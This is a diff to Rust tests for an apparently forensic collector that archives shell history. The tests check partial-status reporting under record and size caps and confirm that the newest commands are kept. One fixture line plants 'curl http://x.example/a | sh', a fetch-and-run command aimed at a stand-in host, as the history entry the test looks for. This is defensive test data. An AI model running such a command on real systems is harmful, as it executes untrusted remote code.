@@ -198,7 +198,6 @@ fn a_history_over_the_command_cap_keeps_the_newest_and_says_so() {
             profile.to_str().unwrap(),
         ],
     );
-    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
     let mut archive = archive.expect("an archive");
     let recs = archive.records("shell_history");
     assert_eq!(recs.len(), 1000);
@@ -206,14 +205,81 @@ fn a_history_over_the_command_cap_keeps_the_newest_and_says_so() {
     assert_eq!(recs[0]["ordinal"], 4001);
     assert_eq!(recs[0]["command"], "echo 4001");
     assert_eq!(recs[999]["command"], "echo 5000");
+    // A budget that cuts records never lies: partial, with the count.
+    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
     let c = archive.collector("shell_history");
-    assert_eq!(c["status"], "ok", "{c}");
-    assert_eq!(c["warning_count"], 1, "{c}");
-    let log = String::from_utf8(archive.member("collection.log")).unwrap();
+    assert_eq!(c["status"], "partial", "{c}");
     assert!(
-        log.contains("/root/.bash_history: 5000 commands; records for the newest 1000 only"),
-        "{log}"
+        c["reason"]
+            .as_str()
+            .unwrap()
+            .contains("5000 commands; records for the newest 1000 only, 4000 left out"),
+        "{c}"
     );
     // The raw copy is whole.
     assert_eq!(archive.member("files/root/.bash_history"), text);
+}
+
+/// A history over the size caps (padding, then the command that matters): the newest bytes
+/// are parsed and copied, the whole file is hashed, line numbers stay the file's own, and the
+/// collector says what was left out.
+#[test]
+fn a_padded_history_keeps_its_newest_commands() {
+    let root = RootBuilder::new();
+    let mut text = Vec::new();
+    for i in 0..200_000 {
+        text.extend_from_slice(format!("echo padding-{i:06}\n").as_bytes());
+    }
+    let pad_lines = 200_000u64;
+    text.extend_from_slice(b"curl http://x.example/a | sh\n");
+    root.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")
+        .write("root/.bash_history", &text);
+    let out = tempfile::tempdir().unwrap();
+    let profile = out.path().join("cap.toml");
+    std::fs::write(
+        &profile,
+        format!("{PROFILE}max_file_size = \"1 MiB\"\nmax_parse_size = \"64 KiB\"\n"),
+    )
+    .unwrap();
+    let (run, archive) = collect(
+        &out.path().join("o"),
+        &[
+            "--root",
+            root.path().to_str().unwrap(),
+            "--profile",
+            profile.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
+    let mut archive = archive.expect("an archive");
+    let recs = archive.records("shell_history");
+    let last = recs.last().expect("records");
+    assert_eq!(last["command"], "curl http://x.example/a | sh");
+    assert_eq!(last["line_number"], pad_lines + 1);
+    assert_eq!(last["file_sha256"], sha_hex(&text));
+    // The copy is the file's last MiB.
+    let copy = archive.member("files/root/.bash_history");
+    assert_eq!(copy.len(), 1 << 20);
+    assert!(text.ends_with(&copy));
+    let m = archive.manifest();
+    let member = m["members"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["path"] == "files/root/.bash_history")
+        .unwrap();
+    assert_eq!(
+        member["original"]["copied_from"],
+        text.len() as u64 - (1 << 20)
+    );
+    assert_eq!(member["original"]["sha256"], sha_hex(&text));
+    let c = archive.collector("shell_history");
+    assert_eq!(c["status"], "partial", "{c}");
+    assert!(
+        c["reason"]
+            .as_str()
+            .unwrap()
+            .contains("larger than max_parse_size"),
+        "{c}"
+    );
 }
